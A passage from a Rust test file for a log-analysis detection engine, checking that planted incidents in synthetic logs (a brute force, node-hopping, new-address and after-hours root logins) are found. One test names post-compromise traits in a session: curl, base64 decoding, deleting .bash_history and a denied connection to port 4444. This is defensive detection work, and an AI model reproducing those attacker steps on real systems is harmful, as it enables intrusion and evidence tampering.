    ("session-join", Severity::Low, "carol@acme.io joined grace-h's session on be24e42a-5926-4f7e-b81a-8615771b9137"),
    ("session-join", Severity::Low, "alice joined carol@acme.io's session on 804af3cb-898b-4f10-a9f9-579444413e45"),
    ("session-join", Severity::Low, "judy@acme.io joined heidi's session on c83700d6-27c3-4fa7-a81b-03433437b48b"),
    ("session-join", Severity::Low, "grace-h joined frank@acme.io's session on c8cda979-fbbe-42d7-b0ac-3f00aaeafc77"),
    ("session-join", Severity::Low, "grace-h joined alice's session on f37e804c-11b7-4ca8-a74f-7a7ecf006b72"),
    ("session-join", Severity::Low, "carol@acme.io joined heidi's session on worker-01"),
    ("session-join", Severity::Low, "alice joined ivan-k's session on db-replica-01"),
    ("session-join", Severity::Low, "heidi joined grace-h's session on api-01"),
    ("session-join", Severity::Low, "dave joined carol@acme.io's session on db-primary-01"),
    ("session-join", Severity::Low, "bob joined judy@acme.io's session on monitoring-01"),
    ("session-join", Severity::Low, "frank@acme.io joined heidi's session on web-01"),
    // Planted node-hopping (Tue 2024-03-12 14:28).
    ("node-spread", Severity::Medium, "grace-h reached 14 nodes in 8m 21s"),
    // Planted brute-force (Wed 2024-03-13 02:14): the attack, dave's success from the attacker's
    // address (new for him), his shell at 02:22 (far from his usual hours), what it ran and the
    // connection that was denied.
    ("brute-force", Severity::High, "Brute force from 185.220.101.47, then a successful login"),
    ("new-address", Severity::High, "dave from a new address 185.220.101.47"),
    ("off-hours", Severity::Medium, "dave active outside working hours"),
    (
        "watched-command",
        Severity::High,
        "Watched commands in dave's session 2cce2b8a-55e0-4907-a560-dfd3117ef3f3 on web-02",
    ),
    (
        "network-denied",
        Severity::High,
        "Network connection denied in dave's session 2cce2b8a-55e0-4907-a560-dfd3117ef3f3 on web-02",
    ),
    // Planted new-address (Thu 2024-03-14 10:05): two wrong passwords, then success, from an
    // address erin never used (two failures are below failure-then-success's three).
    ("new-address", Severity::High, "erin from a new address 103.21.244.17"),
    // A colleague joins grace-h's shell (the demo's "joined" recording).
    ("session-join", Severity::Low, "ivan-k joined grace-h's session on cache-01"),
    // Planted root-after-hours (Sat 2024-03-16 08:12 UTC): root is routine for frank, but not on
    // a Saturday at 03:12 his time.
    ("off-hours", Severity::High, "frank@acme.io active outside working hours"),
    ("privileged-login", Severity::High, "root session by frank@acme.io on db-primary-01"),
];

#[test]
fn demo_yields_its_planted_incidents_and_nothing_else() {
    let (set, m) = demo();
    let f = detect_with(&m, &Settings::default());
    let got: Vec<(&str, Severity, &str)> = f.iter().map(|x| (x.rule.as_str(), x.severity, x.title.as_str())).collect();
    assert_eq!(got, DEMO_FINDINGS);
    for x in &f {
        assert!(!x.events.is_empty() && x.events.iter().all(|&e| (e as usize) < m.events.len()), "{x:?}");
    }

    // Every planted incident is found by the rules meant for it, at its time and with its people.
    let expect = [
        ("node-hopping", &["node-spread"][..]),
        ("brute-force", &["brute-force", "new-address", "off-hours", "watched-command", "network-denied"][..]),
        ("new-address", &["new-address"][..]),
        ("root-after-hours", &["privileged-login", "off-hours"][..]),
    ];
    for (name, rules) in expect {
        let p = set.planted.iter().find(|p| p.name == name).unwrap_or_else(|| panic!("{name} not planted"));
        for rule in rules {
            let hit = f.iter().any(|x| {
                x.rule == *rule
                    && x.time_start.is_some_and(|t| t <= p.end)
                    && x.time_end.is_some_and(|t| t >= p.start)
                    && x.users.iter().any(|u| p.users.contains(u))
            });
            assert!(hit, "planted {name} not found by {rule}");
        }
    }

    let find = |rule: &str, title: &str| f.iter().find(|x| x.rule == rule && x.title.starts_with(title)).unwrap();
    let line = |id: EventId| String::from_utf8(m.kept_raw(id).unwrap().to_vec()).unwrap();
    // The brute force: 38 failures against 9 names from one address, then dave's success.
    let b = find("brute-force", "Brute force from 185.220.101.47");
    assert_eq!(b.events.len(), 39);
    assert_eq!(b.addrs, ["185.220.101.47"]);
    assert!(b.explanation.starts_with("38 failed logins from 185.220.101.47"), "{}", b.explanation);
    assert!(b.explanation.contains("against 9 user names"), "{}", b.explanation);
    assert!(line(*b.events.last().unwrap()).contains(r#""user":"dave""#));
    // dave's shell: curl, base64 -d and the history removal; the denied connection to :4444.
    let w = find("watched-command", "Watched commands in dave's session");
    let lines: Vec<String> = w.events.iter().map(|&e| line(e)).collect();
    assert_eq!(lines.len(), 3);
    assert!(
        lines[0].contains("/usr/bin/curl")
            && lines[1].contains("/usr/bin/base64")
            && lines[2].contains(".bash_history")
    );
    let n = find("network-denied", "Network connection denied");
    assert_eq!(n.events.len(), 1);
    assert!(line(n.events[0]).contains(r#""dst_port":4444"#));
    // grace-h's 14 machines; frank's root shell on the primary database.
    assert_eq!(find("node-spread", "grace-h").nodes.len(), 14);
    let r = find("privileged-login", "root session by frank");
    assert_eq!(r.nodes, ["db-primary-01"]);
    assert!(r.explanation.contains("Sat 2024-03-16 08:13 UTC+00:00"), "{}", r.explanation);
}

#[test]
fn demo_in_new_york_hours() {
    // With frank's own zone (UTC−05:00), his Saturday root shell is at 03:12 and still found;
    // the normal traffic stays quiet.
    let (_, m) = demo();
    let mut s = Settings::default();
    s.working_hours.utc_offset_minutes = -300;
    let f = detect_with(&m, &s);
    let r: Vec<&str> = f.iter().filter(|x| x.rule == "privileged-login").map(|x| x.explanation.as_str()).collect();
    assert_eq!(r.len(), 1);
    assert!(r[0].contains("Sat 2024-03-16 03:13 UTC−05:00"), "{}", r[0]);
    let off: Vec<&str> = f.iter().filter(|x| x.rule == "off-hours").map(|x| x.title.as_str()).collect();
    assert_eq!(off, ["dave active outside working hours", "frank@acme.io active outside working hours"]);
}

/// CPU time of this thread (Linux), so timings hold on a busy machine; wall time elsewhere.
fn cpu_ms(wall: std::time::Instant) -> f64 {
    let cpu = std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|s| s.split_whitespace().next().and_then(|n| n.parse::<f64>().ok()));
    cpu.map_or(wall.elapsed().as_secs_f64() * 1e3, |ns| ns / 1e6)
}

/// Detections over about 3 million events of the bulk generator, timed. Run with
/// `cargo test --release -p review-core --test detect -- --ignored --nocapture`.
#[test]
#[ignore]
fn three_million_events_timed() {
    let mut ing = Ingest::new(Options::default());
    // About 1 GB of logs is about 3 million events.
    let opts = synth::bulk::BulkOptions { size: 1_000 << 20, gz_fraction: 0.0, ..Default::default() };
    synth::bulk::generate(&opts, &mut |f| {
        ing.add_bytes(&f.path, &f.bytes);
        Ok(())
    })
    .unwrap();
    let mut m = ing.finish();
    m.ensure_sorted();
    let (t, c) = (std::time::Instant::now(), cpu_ms(std::time::Instant::now()));
    let r = run_counted(&m, &|id| m.kept_raw(id).map(<[u8]>::to_vec), &Settings::default());
    let (took, cpu) = (t.elapsed(), cpu_ms(t) - c);
    let t = std::time::Instant::now();
    let needed = raw_needed(&m, &Settings::default()).len();
    println!("raw lines needed: {needed} ({:.0} ms to list)", t.elapsed().as_secs_f64() * 1e3);
    let mut by_rule: Vec<(String, usize)> = Vec::new();
    for f in &r.findings {
        match by_rule.iter_mut().find(|(r, _)| *r == f.rule) {
            Some((_, n)) => *n += 1,
            None => by_rule.push((f.rule.clone(), 1)),
        }
    }
    println!(
        "{} events: {} findings in {:.0} ms wall, {cpu:.0} ms CPU ({} steps); {by_rule:?}",
        m.events.len(),
        r.findings.len(),
        took.as_secs_f64() * 1e3,
        r.steps
    );
    // Each rule alone (DETECT_ONLY one rule, DETECT_REPEAT times, for profiling).
    let repeat: usize = std::env::var("DETECT_REPEAT").ok().and_then(|r| r.parse().ok()).unwrap_or(1);
    let only = std::env::var("DETECT_ONLY").ok();
    let rules = RULES.iter().filter(|r| only.as_deref().is_none_or(|o| o == r.id));
    for rule in rules.flat_map(|r| std::iter::repeat_n(r, repeat)) {
        let only = Settings {
            disabled: RULES.iter().map(|r| r.id.to_owned()).filter(|r| r != rule.id).collect(),
            ..Settings::default()
        };
        let (t, c) = (std::time::Instant::now(), cpu_ms(std::time::Instant::now()));
        let n = run(&m, &|id| m.kept_raw(id).map(<[u8]>::to_vec), &only).len();
        println!("  {:<22} {:>7.0} ms CPU, {n} findings", rule.id, cpu_ms(t) - c);
    }
    assert!(m.events.len() > 2_500_000);
}

#[test]
fn a_run_takes_one_step_per_enabled_rule_and_tells_a_changed_model() {
    let (_, m) = demo();
    let raw = |id: EventId| m.kept_raw(id).map(<[u8]>::to_vec);
    let steps = |settings: Settings| {
        let mut detection = Detection::new(&m, settings);
        let mut calls = 1;
        loop {
            assert!(detection.is_for(&m));
            match detection.step(&m, &raw) {
                Some(done) => return (calls, done.findings),
                None => calls += 1,
            }
        }
    };
    // Two rules that use nothing of another's: a step each, then the one that ends the run,
    // which finds what those two rules find in a run of every rule.
    let two = ["brute-force", "session-join"];
    assert!(two.iter().all(|id| RULES.iter().any(|r| r.id == *id)));
    let only = |keep: &[&str]| Settings {
        disabled: RULES.iter().map(|r| r.id.to_owned()).filter(|id| !keep.contains(&id.as_str())).collect(),
        ..Settings::default()
    };
    let (calls, found) = steps(only(&two));
    assert_eq!(calls, 3);
    let mut expected = detect_model(&m);
    expected.retain(|f| two.contains(&f.rule.as_str()));
    assert!(!expected.is_empty());
    assert_eq!(found, expected);
    // No rule: the first step ends the run, with nothing found.
    assert_eq!(steps(only(&[])), (1, Vec::new()));
    // A model that changes under a run (here: findings set) is told apart.
    let detection = Detection::new(&m, Settings::default());
    let mut m = m;
    m.set_findings(Vec::new());
    assert!(!detection.is_for(&m));
}

fn detect_model(m: &Model) -> Vec<Finding> {
    detect_with(m, &Settings::default())
}
